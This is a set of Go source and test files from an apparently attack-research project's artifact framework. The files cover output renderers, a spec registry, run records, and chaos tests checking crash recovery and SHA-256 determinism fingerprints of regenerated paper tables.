		var buf bytes.Buffer
		if err := r.Render(&buf, res); err != nil {
			t.Fatal(err)
		}
		return buf.String()
	}

	if got := render("text"); got != "== Fake render ==\nrow|one\nrow|two\n\n" {
		t.Fatalf("text rendering:\n%q", got)
	}
	var decoded struct {
		ID      string         `json:"id"`
		Params  map[string]int `json:"params"`
		Dataset fakeDataset    `json:"dataset"`
	}
	if err := json.Unmarshal([]byte(render("json")), &decoded); err != nil {
		t.Fatal(err)
	}
	if decoded.ID != "t-render" || decoded.Params["n"] != 2 || len(decoded.Dataset) != 2 || decoded.Dataset[0].Name != "a|b" {
		t.Fatalf("json round trip: %+v", decoded)
	}
	csvOut := render("csv")
	if !strings.HasPrefix(csvOut, "name,value\n") || !strings.Contains(csvOut, "a|b,1") {
		t.Fatalf("csv rendering:\n%s", csvOut)
	}
	mdOut := render("md")
	if !strings.Contains(mdOut, "## Fake render") || !strings.Contains(mdOut, "| a\\|b | 1 |") {
		t.Fatalf("markdown rendering:\n%s", mdOut)
	}
	if _, err := RendererFor("yaml"); err == nil {
		t.Fatal("unknown format accepted")
	}
}

func TestManifestFingerprints(t *testing.T) {
	spec := fakeSpec("t-manifest")
	res := &Result{ID: spec.ID, Params: map[string]int{"n": 3}, Dataset: fakeDataset{}}

	m1 := NewManifest("text", 1)
	m1.Add(spec, res, []byte("rendered bytes"))
	m8 := NewManifest("text", 8)
	m8.Add(spec, res, []byte("rendered bytes"))

	f1, f8 := m1.Fingerprints(), m8.Fingerprints()
	if len(f1) != 1 || f1[spec.ID] == "" || f1[spec.ID] != f8[spec.ID] {
		t.Fatalf("fingerprints differ across worker counts: %v vs %v", f1, f8)
	}
	if f1[spec.ID] != Fingerprint([]byte("rendered bytes")) {
		t.Fatal("entry fingerprint is not the SHA-256 of the rendered bytes")
	}

	nondet := spec
	nondet.ID, nondet.Deterministic = "t-manifest-wallclock", false
	m1.Add(nondet, res, []byte("varies"))
	if _, listed := m1.Fingerprints()["t-manifest-wallclock"]; listed {
		t.Fatal("non-deterministic artifact listed in the determinism fingerprints")
	}

	path := filepath.Join(t.TempDir(), "manifest.json")
	if err := m1.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	loaded, err := ReadManifest(path)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Version != ManifestVersion || loaded.Workers != 1 || len(loaded.Artifacts) != 2 {
		t.Fatalf("loaded manifest: %+v", loaded)
	}
	if loaded.Fingerprints()[spec.ID] != f1[spec.ID] {
		t.Fatal("fingerprints not preserved through the file round trip")
	}
}
