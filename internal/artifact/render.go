package artifact

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"strings"
)

// Renderer turns one Result into bytes on a sink. Renderers are
// stateless; the same Result renders identically every time, which is
// what makes manifest fingerprints meaningful.
type Renderer interface {
	// Format is the renderer's registry key ("text", "json", ...).
	Format() string
	// Ext is the file extension used by directory output.
	Ext() string
	Render(w io.Writer, res *Result) error
}

// Formats lists the supported renderer formats.
func Formats() []string { return []string{"text", "json", "csv", "md"} }

// RendererFor selects a renderer by format name.
func RendererFor(format string) (Renderer, error) {
	switch format {
	case "text", "":
		return textRenderer{}, nil
	case "json":
		return jsonRenderer{}, nil
	case "csv":
		return csvRenderer{}, nil
	case "md", "markdown":
		return markdownRenderer{}, nil
	default:
		return nil, fmt.Errorf("unknown format %q (known: %s)", format, strings.Join(Formats(), " "))
	}
}

// textRenderer emits the canonical human rendering — byte-identical to
// the pre-registry CLI output (asserted by the golden test).
type textRenderer struct{}

func (textRenderer) Format() string { return "text" }
func (textRenderer) Ext() string    { return "txt" }
func (textRenderer) Render(w io.Writer, res *Result) error {
	_, err := fmt.Fprintf(w, "== %s ==\n%s\n", res.Title, res.Text)
	return err
}

// jsonRenderer emits the full Result — identity, params, and the typed
// dataset — as one indented JSON document.
type jsonRenderer struct{}

func (jsonRenderer) Format() string { return "json" }
func (jsonRenderer) Ext() string    { return "json" }
func (jsonRenderer) Render(w io.Writer, res *Result) error {
	b, err := json.MarshalIndent(res, "", "  ")
	if err != nil {
		return fmt.Errorf("render %s: %w", res.ID, err)
	}
	b = append(b, '\n')
	_, err = w.Write(b)
	return err
}

// csvRenderer emits the dataset's tabular form, header first.
type csvRenderer struct{}

func (csvRenderer) Format() string { return "csv" }
func (csvRenderer) Ext() string    { return "csv" }
func (csvRenderer) Render(w io.Writer, res *Result) error {
	header, rows := res.Dataset.Table()
	cw := csv.NewWriter(w)
	if err := cw.Write(header); err != nil {
		return err
	}
	for _, row := range rows {
		if len(row) != len(header) {
			return fmt.Errorf("render %s: row width %d != header width %d", res.ID, len(row), len(header))
		}
		if err := cw.Write(row); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// markdownRenderer emits a titled pipe table.
type markdownRenderer struct{}

func (markdownRenderer) Format() string { return "md" }
func (markdownRenderer) Ext() string    { return "md" }
func (markdownRenderer) Render(w io.Writer, res *Result) error {
	header, rows := res.Dataset.Table()
	var b strings.Builder
	fmt.Fprintf(&b, "## %s\n\n", res.Title)
	writeMDRow(&b, header)
	sep := make([]string, len(header))
	for i := range sep {
		sep[i] = "---"
	}
	writeMDRow(&b, sep)
	for _, row := range rows {
		if len(row) != len(header) {
			return fmt.Errorf("render %s: row width %d != header width %d", res.ID, len(row), len(header))
		}
		writeMDRow(&b, row)
	}
	b.WriteString("\n")
	_, err := io.WriteString(w, b.String())
	return err
}

func writeMDRow(b *strings.Builder, cells []string) {
	b.WriteString("|")
	for _, c := range cells {
		c = strings.ReplaceAll(c, "|", "\\|")
		c = strings.ReplaceAll(c, "\n", " ")
		b.WriteString(" " + c + " |")
	}
	b.WriteString("\n")
}
