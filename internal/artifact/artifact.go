// Package artifact is the registry-driven API behind the paper's
// regenerable evaluation artifacts (tables, figures, measurements).
//
// Every artifact is described by a Spec: a stable ID, the paper section
// it reproduces, its tunable Params (with defaults and validation), the
// base Seed its scenarios derive their randomness from, and a Run
// function that regenerates it inside an Env. internal/experiments
// self-registers one Spec per table and figure; frontends
// (cmd/experiments, cmd/crawl, CI) discover artifacts through the
// package-level registry instead of hard-coding entry points.
//
// A Run returns a Result whose Dataset is typed and JSON-marshalable —
// never a bare `any` — so the same artifact renders as canonical text,
// JSON, CSV, or Markdown through a Renderer, and every rendered byte
// stream is fingerprinted into a run Manifest. Because deterministic
// artifacts are byte-identical at any scenario-fleet worker count, two
// manifests from runs at different -parallel N must carry identical
// SHA-256 fingerprints, making the determinism guarantee checkable
// from the manifests alone.
package artifact

import (
	"bytes"
	"errors"
	"fmt"

	"masterparasite/internal/runner"
)

// ErrTransient marks a run failure as retryable: the scenario hit a
// condition that a fresh attempt can clear (an exhausted resource, a
// probabilistic setup that can re-draw). A Spec.Run wraps its error
// with %w around ErrTransient to opt in; orchestrators (labd) retry
// transient failures with backoff and fail everything else fast.
var ErrTransient = errors.New("transient failure")

// Param declares one tunable input of an artifact. Params are integers
// (corpus sizes, study days, payload bytes, seeds); a frontend exposes
// each declared name as a flag and the Spec validates supplied values.
type Param struct {
	Name    string
	Usage   string
	Default int
	// Min is the smallest accepted value. Values below Min fail
	// validation in NewEnv.
	Min int
}

// Spec describes one regenerable artifact.
type Spec struct {
	// ID is the stable registry key ("table1" ... "fig5", "cnc").
	ID string
	// Title heads the rendered artifact, e.g. "Table I: cache eviction
	// on popular browsers".
	Title string
	// Section names the paper artefact being reproduced ("Table I",
	// "Fig. 3", "§VI-C", ...).
	Section string
	// Params are the accepted inputs, applied as defaults and validated
	// by NewEnv. Specs sharing a param name must agree on its
	// declaration (enforced at registration).
	Params []Param
	// Seed is the base seed the artifact's scenarios derive their
	// randomness from; recorded in the manifest. Zero means the
	// artifact takes its seed from a "seed" param or uses none.
	Seed int64
	// Deterministic marks artifacts whose rendered output is a pure
	// function of the seeds and params — everything except wall-clock
	// measurements. Deterministic artifacts must fingerprint
	// identically at any worker count.
	Deterministic bool
	// Resumable marks artifacts whose Run is safe to re-execute after
	// a crash: it is deterministic, shares no state across attempts,
	// and drives its fleet through runner.ResumeMap so an orchestrator
	// can hand it a checkpoint (Env.Checkpoint) and resume an
	// interrupted run at the last committed chunk. Non-resumable runs
	// interrupted by a crash are latched failed on recovery.
	Resumable bool
	// Run regenerates the artifact. The returned Result needs only
	// Text and Dataset; Exec stamps identity and params from the Spec.
	Run func(Env) (*Result, error)
}

// Env is what a Spec.Run receives: the scenario-fleet runner to fan
// jobs out on, plus the validated parameter values.
type Env struct {
	Runner *runner.Runner
	// Checkpoint, when non-nil, is the durable chunk-resume sink a
	// Resumable spec passes to runner.ResumeMap: completed fleet
	// chunks are committed as they finish, and a run restarted after a
	// crash skips them. Batch frontends leave it nil (no resume);
	// labd binds a per-run checkpoint file for resumable specs.
	Checkpoint runner.Checkpoint
	params     map[string]int
}

// Param returns a validated parameter value. Asking for a name the
// Spec did not declare is a programming error and panics.
func (e Env) Param(name string) int {
	v, ok := e.params[name]
	if !ok {
		panic(fmt.Sprintf("artifact: param %q not declared by this spec", name))
	}
	return v
}

// Params returns a copy of the resolved parameter values.
func (e Env) Params() map[string]int {
	out := make(map[string]int, len(e.params))
	for k, v := range e.params {
		out[k] = v
	}
	return out
}

// NewEnv resolves an environment for this spec: declared params start
// at their defaults, overrides for declared names are applied and
// validated, and overrides for names the spec does not declare are
// ignored (they belong to other specs in the same run).
func (s Spec) NewEnv(r *runner.Runner, overrides map[string]int) (Env, error) {
	params := make(map[string]int, len(s.Params))
	for _, p := range s.Params {
		v := p.Default
		if ov, ok := overrides[p.Name]; ok {
			v = ov
		}
		if v < p.Min {
			return Env{}, fmt.Errorf("artifact %s: param %s = %d below minimum %d", s.ID, p.Name, v, p.Min)
		}
		params[p.Name] = v
	}
	return Env{Runner: r, params: params}, nil
}

// Exec runs the artifact in the given environment and stamps the
// result with the spec's identity and the resolved params.
func (s Spec) Exec(env Env) (*Result, error) {
	res, err := s.Run(env)
	if err != nil {
		return nil, err
	}
	if res.Dataset == nil {
		return nil, fmt.Errorf("artifact %s: result carries no dataset", s.ID)
	}
	res.ID = s.ID
	res.Title = s.Title
	res.Section = s.Section
	res.Params = env.Params()
	return res, nil
}

// RunRendered is the one execution sequence every frontend shares:
// resolve an environment for the spec, execute it, and render the
// result. Errors are annotated with the spec's ID.
func RunRendered(s Spec, r *runner.Runner, overrides map[string]int, renderer Renderer) (*Result, []byte, error) {
	env, err := s.NewEnv(r, overrides)
	if err != nil {
		return nil, nil, err
	}
	res, err := s.Exec(env)
	if err != nil {
		return nil, nil, fmt.Errorf("%s: %w", s.ID, err)
	}
	var buf bytes.Buffer
	if err := renderer.Render(&buf, res); err != nil {
		return nil, nil, fmt.Errorf("render %s: %w", s.ID, err)
	}
	return res, buf.Bytes(), nil
}

// Result is one regenerated artifact.
type Result struct {
	ID      string         `json:"id"`
	Title   string         `json:"title"`
	Section string         `json:"section"`
	Params  map[string]int `json:"params,omitempty"`
	// Text is the canonical human rendering — byte-identical to the
	// pre-registry CLI output.
	Text string `json:"-"`
	// Dataset is the typed, JSON-marshalable dataset behind the text.
	Dataset Dataset `json:"dataset"`
}

// Dataset is a typed, JSON-marshalable experiment dataset. Table
// flattens it into one tabular form — a header plus one string row per
// record — for the CSV and Markdown renderers.
type Dataset interface {
	Table() (header []string, rows [][]string)
}
