package artifact

import (
	"fmt"
	"sort"
	"strings"
	"sync"
)

// The package-level registry. Specs keep their registration order —
// internal/experiments registers in the paper's canonical artifact
// order, which is the order `-run all` regenerates.
var registry struct {
	mu    sync.RWMutex
	specs []Spec
	byID  map[string]int
	// paramOwner remembers which spec first declared a param name, so
	// conflicting re-declarations are rejected at registration time.
	paramOwner map[string]Param
}

// Register adds a spec to the registry. It rejects empty or duplicate
// IDs, specs without a Run function, and param declarations that
// conflict with another spec's declaration of the same name (shared
// names must agree on default and minimum, because frontends expose
// one flag per name).
func Register(s Spec) error {
	if s.ID == "" || s.Run == nil {
		return fmt.Errorf("artifact: spec needs an ID and a Run function")
	}
	registry.mu.Lock()
	defer registry.mu.Unlock()
	if registry.byID == nil {
		registry.byID = make(map[string]int)
		registry.paramOwner = make(map[string]Param)
	}
	if _, dup := registry.byID[s.ID]; dup {
		return fmt.Errorf("artifact: duplicate spec %q", s.ID)
	}
	// Validate every param before recording any ownership, so a
	// rejected spec leaves no trace in the registry.
	for _, p := range s.Params {
		if prev, seen := registry.paramOwner[p.Name]; seen && (prev.Default != p.Default || prev.Min != p.Min) {
			return fmt.Errorf("artifact %s: param %q conflicts with an earlier declaration (default %d/min %d vs %d/%d)",
				s.ID, p.Name, p.Default, p.Min, prev.Default, prev.Min)
		}
	}
	for _, p := range s.Params {
		if _, seen := registry.paramOwner[p.Name]; !seen {
			registry.paramOwner[p.Name] = p
		}
	}
	registry.byID[s.ID] = len(registry.specs)
	registry.specs = append(registry.specs, s)
	return nil
}

// MustRegister is Register for init-time self-registration.
func MustRegister(s Spec) {
	if err := Register(s); err != nil {
		panic(err)
	}
}

// Get looks a spec up by ID.
func Get(id string) (Spec, bool) {
	registry.mu.RLock()
	defer registry.mu.RUnlock()
	i, ok := registry.byID[id]
	if !ok {
		return Spec{}, false
	}
	return registry.specs[i], true
}

// All returns every registered spec in registration order.
func All() []Spec {
	registry.mu.RLock()
	defer registry.mu.RUnlock()
	return append([]Spec(nil), registry.specs...)
}

// Deterministic returns the registered specs whose rendered output is
// a pure function of seeds and params, in registration order.
func Deterministic() []Spec {
	var out []Spec
	for _, s := range All() {
		if s.Deterministic {
			out = append(out, s)
		}
	}
	return out
}

// IDs returns every registered ID in registration order.
func IDs() []string {
	specs := All()
	out := make([]string, len(specs))
	for i, s := range specs {
		out[i] = s.ID
	}
	return out
}

// ParamFlags returns the union of every registered spec's params, one
// entry per name in first-declaration order — what a generic frontend
// turns into flags. Registration guarantees shared names agree.
func ParamFlags() []Param {
	seen := make(map[string]bool)
	var out []Param
	for _, s := range All() {
		for _, p := range s.Params {
			if !seen[p.Name] {
				seen[p.Name] = true
				out = append(out, p)
			}
		}
	}
	return out
}

// ResolveIDs expands a -run expression into registry IDs. "all" (or
// "") selects every artifact in registration order. Otherwise the
// expression is a comma-separated ID list, fully validated before
// anything runs: empty segments, unknown IDs, and duplicates are all
// rejected up front so a bad trailing ID cannot abort a run midway
// with earlier artifacts already regenerated.
func ResolveIDs(expr string) ([]string, error) {
	expr = strings.TrimSpace(expr)
	if expr == "" || expr == "all" {
		return IDs(), nil
	}
	var ids []string
	seen := make(map[string]bool)
	var unknown []string
	for _, raw := range strings.Split(expr, ",") {
		id := strings.TrimSpace(raw)
		if id == "" {
			return nil, fmt.Errorf("empty artifact id in %q", expr)
		}
		if seen[id] {
			return nil, fmt.Errorf("duplicate artifact id %q in %q", id, expr)
		}
		seen[id] = true
		if _, ok := Get(id); !ok {
			unknown = append(unknown, id)
		}
		ids = append(ids, id)
	}
	if len(unknown) > 0 {
		sort.Strings(unknown)
		return nil, fmt.Errorf("unknown artifact id(s) %s (known: %s)",
			strings.Join(unknown, ", "), strings.Join(IDs(), " "))
	}
	return ids, nil
}
