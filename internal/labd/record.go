package labd

import (
	"encoding/json"
	"time"
)

// Status is a run's position in its lifecycle. Transitions are strictly
// forward: queued → running → retrying* → rendering → done|failed,
// where retrying repeats once per transient execution failure below the
// attempt cap (each retrying stage's detail carries the attempt count).
// A daemon restart moves a run that was mid-flight when the process
// died either to resumed — when its spec is Resumable and the resume
// budget (Config.MaxResumes) is not exhausted, after which the run
// re-enters running and skips fleet chunks its checkpoint already
// committed — or straight to failed (detail "interrupted by restart").
type Status string

// The run lifecycle stages, in order.
const (
	StatusQueued    Status = "queued"
	StatusRunning   Status = "running"
	StatusRetrying  Status = "retrying"
	StatusResumed   Status = "resumed"
	StatusRendering Status = "rendering"
	StatusDone      Status = "done"
	StatusFailed    Status = "failed"
)

// Terminal reports whether the status is an end state.
func (s Status) Terminal() bool { return s == StatusDone || s == StatusFailed }

// Stage is one recorded lifecycle transition: which stage the run
// entered, when, and an optional detail — the render format on
// rendering, "sha256:<fingerprint>" on done, the error text on failed.
type Stage struct {
	Stage  Status    `json:"stage"`
	At     time.Time `json:"at"`
	Detail string    `json:"detail,omitempty"`
}

// Record is the durable description of one enqueued run. It is the
// store's unit of persistence and the API's run resource: the validated
// request (spec, resolved params, format), the lifecycle trail with
// stage timestamps, and — once done — the rendered artifact's size and
// manifest-style SHA-256 fingerprint. A deterministic run's fingerprint
// must equal the batch CLI's manifest entry for the same spec, params,
// and format at any worker count.
type Record struct {
	ID      string         `json:"id"`
	Spec    string         `json:"spec"`
	Title   string         `json:"title"`
	Section string         `json:"section"`
	Params  map[string]int `json:"params,omitempty"`
	// Seed is the spec's base seed, recorded exactly as a manifest
	// entry records it (a "seed" request field feeds the seed param).
	Seed          int64  `json:"seed,omitempty"`
	Deterministic bool   `json:"deterministic"`
	Format        string `json:"format"`

	Status Status  `json:"status"`
	Stages []Stage `json:"stages"`
	Error  string  `json:"error,omitempty"`

	// Resumes counts how many daemon restarts this run has survived
	// mid-flight; recovery latches the run failed once it exceeds
	// Config.MaxResumes instead of resuming forever.
	Resumes int `json:"resumes,omitempty"`

	// Bytes and SHA256 describe the rendered artifact once Status is
	// done; SHA256 is comparable against artifact.ManifestEntry.SHA256.
	Bytes  int    `json:"bytes,omitempty"`
	SHA256 string `json:"sha256,omitempty"`
}

// Clone returns an independent deep copy, so a snapshot handed outside
// the server's lock cannot race with later stage appends.
func (r *Record) Clone() *Record {
	out := *r
	out.Stages = append([]Stage(nil), r.Stages...)
	if r.Params != nil {
		out.Params = make(map[string]int, len(r.Params))
		for k, v := range r.Params {
			out.Params[k] = v
		}
	}
	return &out
}

// encodeRecord renders the API/store wire form: indented JSON plus a
// trailing newline. Params maps marshal with sorted keys, so the bytes
// are deterministic for a given record.
func encodeRecord(r *Record) []byte {
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		// A Record is plain data; marshalling cannot fail at runtime.
		panic("labd: encode record: " + err.Error())
	}
	return append(b, '\n')
}
