package labd_test

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"hash/fnv"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/chaos"
	"masterparasite/internal/labd"
	"masterparasite/internal/runner"
)

// ---- checkpointable test specs --------------------------------------
//
// labd-t-ckpt is the resumable workhorse of the chaos tests: a
// deterministic artifact that drives its fleet through runner.ResumeMap,
// so a crashed run restarted over its checkpoint skips completed
// chunks. ckptComputes counts chunk computations globally; tests that
// assert on the count are not parallel (they own the counter while
// they run).

var ckptComputes atomic.Int64

// flakyTrip, when set, makes the next labd-t-flaky-ckpt execution fail
// transiently (consumed by the first attempt). Owned by the SSE restart
// test, which is not parallel.
var flakyTrip atomic.Bool

func ckptRun(env artifact.Env, n int) (*artifact.Result, error) {
	chunks, err := runner.ResumeMap(env.Runner, n, env.Checkpoint, func(lo, hi int) (kvDataset, error) {
		ckptComputes.Add(1)
		var d kvDataset
		for i := lo; i < hi; i++ {
			d = append(d, struct {
				Name  string `json:"name"`
				Value int    `json:"value"`
			}{Name: fmt.Sprintf("row%d", i), Value: i*i + 7})
		}
		return d, nil
	})
	if err != nil {
		return nil, err
	}
	var all kvDataset
	for _, c := range chunks {
		all = append(all, c...)
	}
	var text strings.Builder
	for _, r := range all {
		fmt.Fprintf(&text, "%s = %d\n", r.Name, r.Value)
	}
	return &artifact.Result{Text: text.String(), Dataset: all}, nil
}

func init() {
	artifact.MustRegister(artifact.Spec{
		ID: "labd-t-ckpt", Title: "labd checkpointable artifact", Section: "test",
		Deterministic: true, Resumable: true,
		Params: []artifact.Param{{Name: "labd-rows", Usage: "row count", Default: 256, Min: 1}},
		Run: func(env artifact.Env) (*artifact.Result, error) {
			return ckptRun(env, env.Param("labd-rows"))
		},
	})
	artifact.MustRegister(artifact.Spec{
		ID: "labd-t-flaky-ckpt", Title: "labd transiently-failing checkpointable artifact", Section: "test",
		Deterministic: true, Resumable: true,
		Run: func(env artifact.Env) (*artifact.Result, error) {
			if flakyTrip.CompareAndSwap(true, false) {
				return nil, fmt.Errorf("first attempt wobbled: %w", artifact.ErrTransient)
			}
			return ckptRun(env, 64)
		},
	})
}

// batchRender regenerates a spec exactly as the batch CLI would and
// returns the rendered bytes plus the manifest fingerprint — the
// ground truth every recovered daemon run must reproduce.
func batchRender(t *testing.T, specID, format string, overrides map[string]int) ([]byte, string) {
	t.Helper()
	spec, ok := artifact.Get(specID)
	if !ok {
		t.Fatalf("spec %s not registered", specID)
	}
	renderer, err := artifact.RendererFor(format)
	if err != nil {
		t.Fatal(err)
	}
	res, rendered, err := artifact.RunRendered(spec, runner.New(1), overrides, renderer)
	if err != nil {
		t.Fatal(err)
	}
	manifest := artifact.NewManifest(format, 1)
	manifest.Add(spec, res, rendered)
	return rendered, manifest.Artifacts[0].SHA256
}

func closeServer(t *testing.T, srv *labd.Server) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := srv.Close(ctx); err != nil {
		t.Fatal(err)
	}
}

// scenarioSeed derives a deterministic chaos seed from the scenario's
// coordinates, so a failing matrix cell reproduces by name.
func scenarioSeed(site string, hit, workers int) int64 {
	h := fnv.New64a()
	fmt.Fprintf(h, "%s/%d/%d", site, hit, workers)
	s := int64(h.Sum64())
	if s == 0 {
		return 1
	}
	return s
}

// TestKillPointRecoveryMatrix is the tentpole gate: enumerate every
// registered fault site along enqueue → run → render → persist, crash
// the "process" at that site, restart over the surviving disk state,
// and verify the recovery invariants:
//
//   - no acknowledged run is ever lost;
//   - a sequence number, once issued, is never reissued;
//   - an in-flight resumable run resumes and its artifact carries the
//     exact batch-CLI manifest fingerprint;
//   - an in-flight non-resumable run is latched failed ("interrupted by
//     restart") — never left dangling;
//   - runs finished before the crash still serve their artifacts.
//
// The assertions are invariant-based on purpose: which writes became
// durable before a kill depends on where the site sits in the
// operation sequence, so the matrix checks properties that must hold
// at every interleaving instead of golden per-site outcomes.
func TestKillPointRecoveryMatrix(t *testing.T) {
	t.Parallel()
	sites := chaos.Sites()
	if len(sites) < 11 {
		t.Fatalf("expected the full store.* + fleet.* site registry, got %d: %v", len(sites), sites)
	}
	hits := []int{1, 2, 5}
	if testing.Short() {
		hits = []int{1}
	}
	wantBytes, wantSHA := batchRender(t, "labd-t-ckpt", "json", nil)
	noop := func(time.Duration) {}

	for _, site := range sites {
		for _, hit := range hits {
			for _, workers := range []int{1, 4, 8} {
				site, hit, workers := site, hit, workers
				t.Run(fmt.Sprintf("%s/hit%d/w%d", site.Name, hit, workers), func(t *testing.T) {
					t.Parallel()
					dir := t.TempDir()

					// Phase 0: prime a healthy store — one finished run the
					// crash must not disturb, plus .tmp debris whose sweep
					// exercises store.remove during recovery.
					srv0, err := labd.Open(labd.Config{StoreDir: dir, Fleets: 1, Workers: workers, Now: fakeClock(), Sleep: noop})
					if err != nil {
						t.Fatal(err)
					}
					prime, err := srv0.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
					if err != nil {
						t.Fatal(err)
					}
					if waitDone(t, srv0, prime.ID).Status != labd.StatusDone {
						t.Fatal("prime run did not finish")
					}
					closeServer(t, srv0)
					if err := os.WriteFile(filepath.Join(dir, "run-000050.json.tmp"), []byte(`{"id":"run-0`), 0o644); err != nil {
						t.Fatal(err)
					}

					// Phase 1: the same daemon, chaos-armed: crash exactly at
					// the hit-th crossing of this site. Track which run IDs
					// the dying process acknowledged to its clients.
					ctrl := chaos.New(scenarioSeed(site.Name, hit, workers))
					ctrl.ArmAt(site.Name, hit, chaos.Crash)
					var acked []string
					resumableID := ""
					srv1, err := labd.Open(labd.Config{
						StoreDir: dir, Fleets: 1, Workers: workers,
						Chaos: ctrl, FS: chaos.BindFS(ctrl),
						Now: fakeClock(), Sleep: noop,
					})
					if err != nil {
						// Recovery itself crossed the kill-point — legitimate,
						// but only a kill excuses the failure.
						if !ctrl.Killed() {
							t.Fatalf("chaos-armed open failed without a kill: %v", err)
						}
					} else {
						if rec, err := srv1.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ckpt", Format: "json"}); err == nil {
							acked = append(acked, rec.ID)
							resumableID = rec.ID
						} else if !ctrl.Killed() {
							t.Fatalf("enqueue failed without a kill: %v", err)
						}
						if rec, err := srv1.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"}); err == nil {
							acked = append(acked, rec.ID)
						} else if !ctrl.Killed() {
							t.Fatalf("enqueue failed without a kill: %v", err)
						}
						deadline := time.Now().Add(30 * time.Second)
						for !ctrl.Killed() {
							terminal := 0
							for _, id := range acked {
								if r, ok := srv1.Get(id); ok && r.Status.Terminal() {
									terminal++
								}
							}
							if terminal == len(acked) {
								break
							}
							if time.Now().After(deadline) {
								t.Fatal("phase 1 never settled")
							}
							time.Sleep(time.Millisecond)
						}
						ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
						_ = srv1.Close(ctx) // a killed process does not drain politely
						cancel()
					}
					if hit == 1 && ctrl.Fired(site.Name) == 0 {
						t.Fatalf("site %s never fired on its first crossing — the matrix does not cover it", site.Name)
					}

					// Phase 2: reboot over the debris, chaos off. Every
					// invariant must hold regardless of where the kill landed.
					srv2 := openServer(t, labd.Config{StoreDir: dir, Fleets: 1, Workers: workers, Sleep: noop})
					p2, ok := srv2.Get(prime.ID)
					if !ok || p2.Status != labd.StatusDone {
						t.Fatalf("primed run lost or no longer done: %+v", p2)
					}
					if _, _, err := srv2.Artifact(prime.ID); err != nil {
						t.Fatalf("primed artifact unreadable after recovery: %v", err)
					}
					maxID := prime.ID
					for _, id := range acked {
						if id > maxID {
							maxID = id
						}
						if _, ok := srv2.Get(id); !ok {
							t.Fatalf("acknowledged run %s lost across the crash", id)
						}
						final := waitDone(t, srv2, id)
						if id == resumableID {
							if final.Status != labd.StatusDone {
								t.Fatalf("resumable run %s = %s (%q), want done", id, final.Status, final.Error)
							}
							if final.SHA256 != wantSHA {
								t.Fatalf("resumed fingerprint %s != batch manifest %s", final.SHA256, wantSHA)
							}
							body, _, err := srv2.Artifact(id)
							if err != nil {
								t.Fatal(err)
							}
							if string(body) != string(wantBytes) {
								t.Fatalf("resumed artifact bytes diverge from the batch CLI render")
							}
						} else if final.Status != labd.StatusDone &&
							!(final.Status == labd.StatusFailed && strings.Contains(final.Error, "interrupted by restart")) {
							t.Fatalf("run %s = %s (%q), want done or interrupted-by-restart", id, final.Status, final.Error)
						}
					}
					fresh, err := srv2.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ok"})
					if err != nil {
						t.Fatal(err)
					}
					if fresh.ID <= maxID {
						t.Fatalf("fresh run %s reuses ID space (max prior %s)", fresh.ID, maxID)
					}
				})
			}
		}
	}
}

// TestCheckpointResumeSkipsCompletedChunks pins the checkpoint math: a
// run killed partway through its fleet recomputes only the chunks that
// were not durably committed, and the resumed output is byte-identical
// to an uninterrupted batch render.
//
// Not parallel: asserts exact deltas on the global chunk-compute
// counter.
func TestCheckpointResumeSkipsCompletedChunks(t *testing.T) {
	dir := t.TempDir()
	noop := func(time.Duration) {}
	wantBytes, wantSHA := batchRender(t, "labd-t-ckpt", "json", nil)

	// With 4 workers, 256 rows split into 16 chunks of 16. The store's
	// WriteFile sequence is: record queued (1), record running (2), then
	// one checkpoint rewrite per committed chunk (3..18). Killing write
	// 10 leaves exactly 7 chunks durable.
	ctrl := chaos.New(scenarioSeed("ckpt-resume", 10, 4))
	ctrl.ArmAt(chaos.SiteWrite, 10, chaos.Crash)
	srv1, err := labd.Open(labd.Config{
		StoreDir: dir, Fleets: 1, Workers: 4,
		Chaos: ctrl, FS: chaos.BindFS(ctrl),
		Now: fakeClock(), Sleep: noop,
	})
	if err != nil {
		t.Fatal(err)
	}
	rec, err := srv1.Enqueue(labd.EnqueueRequest{Spec: "labd-t-ckpt", Format: "json"})
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(30 * time.Second)
	for !ctrl.Killed() {
		if time.Now().After(deadline) {
			t.Fatal("kill-point never fired")
		}
		time.Sleep(time.Millisecond)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	_ = srv1.Close(ctx)
	cancel()

	before := ckptComputes.Load()
	srv2 := openServer(t, labd.Config{StoreDir: dir, Fleets: 1, Workers: 4, Sleep: noop})
	final := waitDone(t, srv2, rec.ID)
	resumedComputes := ckptComputes.Load() - before

	if final.Status != labd.StatusDone {
		t.Fatalf("resumed run = %s (%q), want done", final.Status, final.Error)
	}
	if final.Resumes != 1 {
		t.Fatalf("resumes = %d, want 1", final.Resumes)
	}
	if resumedComputes != 9 {
		t.Fatalf("resumed run computed %d chunks, want 9 (7 of 16 were durable)", resumedComputes)
	}
	var stages []labd.Status
	for _, st := range final.Stages {
		stages = append(stages, st.Stage)
	}
	want := []labd.Status{
		labd.StatusQueued, labd.StatusRunning, labd.StatusResumed,
		labd.StatusRunning, labd.StatusRendering, labd.StatusDone,
	}
	if fmt.Sprint(stages) != fmt.Sprint(want) {
		t.Fatalf("stages = %v, want %v", stages, want)
	}
	if final.SHA256 != wantSHA {
		t.Fatalf("resumed fingerprint %s != batch manifest %s", final.SHA256, wantSHA)
	}
	body, _, err := srv2.Artifact(rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	if string(body) != string(wantBytes) {
		t.Fatal("resumed artifact bytes diverge from the batch CLI render")
	}
	if _, err := os.Stat(filepath.Join(dir, rec.ID+".ckpt")); !os.IsNotExist(err) {
		t.Fatalf("checkpoint file not removed after done: %v", err)
	}
}

// readSSEStages consumes an SSE response body and returns the stage
// names in arrival order, until the predicate says stop or the stream
// closes.
func readSSEStages(body *bufio.Scanner, stop func(stage string) bool) []string {
	var stages []string
